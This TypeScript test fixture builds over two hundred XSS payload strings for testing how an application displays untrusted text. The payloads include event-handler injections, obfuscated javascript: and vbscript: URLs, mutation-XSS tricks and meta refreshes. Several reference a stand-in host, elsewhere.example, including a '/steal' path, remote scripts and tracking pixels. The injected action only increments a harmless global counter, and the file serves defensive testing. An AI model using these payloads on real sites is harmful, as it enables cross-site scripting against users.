/** A script that leaves a trace for a test, if a page runs it. */
const act = 'globalThis.hostile=(globalThis.hostile??0)+1'

const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle']
const elements = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'input autofocus',
  'details open',
  'video src=x',
  'p',
  'a href=x',
]
const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `java\nscript:${act}`,
  `&#106;avascript:${act}`,
  `&#x6A&#x61vascript:${act}`,
  ` javascript:${act}`,
  `\u0001javascript:${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `//elsewhere.example/steal`,
]
const loaders = [
  'a href',
  'iframe src',
  'object data',
  'embed src',
  'form action',
  'img src',
  'link rel=stylesheet href',
  'base href',
  'button formaction',
]

const byHandler = elements.flatMap((element) =>
  handlers.map((handler) => `<${element} ${handler}="${act}">hier</p>`),
)
const byAddress = addresses.flatMap((address) => loaders.map((loader) => `<${loader}="${address}">hier</a>`))

const byScript = [
  `<script>${act}</script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script src="https://elsewhere.example/x.js"></script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<<script>${act}//<</script>`,
  `"><script>${act}</script>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${act}"><text x=0 y=20>hier</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`,
  `<math href="javascript:${act}">hier</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  `<style>@import 'https://elsewhere.example/x.css';</style>`,
  `<p style="background:url(javascript:${act})">hier</p>`,
  `<p style="position:fixed;inset:0;background:red">alles bedekt</p>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  `<meta http-equiv="refresh" content="0;url=https://elsewhere.example">`,
  `<textarea><img src=x onerror="${act}"></textarea>`,
  `<title><img src=x onerror="${act}"></title>`,
  `<!--><img src=x onerror="${act}">-->`,
  `<![CDATA[<img src=x onerror="${act}">]]>`,
  `<p id="content" class="button button-primary" slot="x">namaak</p>`,
  `<form id="form"><input name="attributes"><input name="parentNode"></form>`,
  `<a href="https://elsewhere.example" target="_top" ping="https://elsewhere.example/ping">hier</a>`,
  `<dialog open><p onclick="${act}">hier</p></dialog>`,
  `<marquee onstart="${act}">hier</marquee>`,
  `<isindex type=image src=1 onerror="${act}">`,
  `<p><img srcset="https://elsewhere.example/pixel.png 2x">volgt u</p>`,
  `<audio src="https://elsewhere.example/a.mp3" autoplay></audio>`,
]

/** Over two hundred XSS payloads, for tests of displayed texts. */
export const hostileTexts: readonly string[] = [...byHandler, ...byAddress, ...byScript]

/** The same without characters that every input rejects, so that a school file can hold them. */
export const storableHostileTexts: readonly string[] = hostileTexts.map((text) =>
  text.replaceAll(/[^\P{Cc}\t\n\r]/gu, ' '),
)
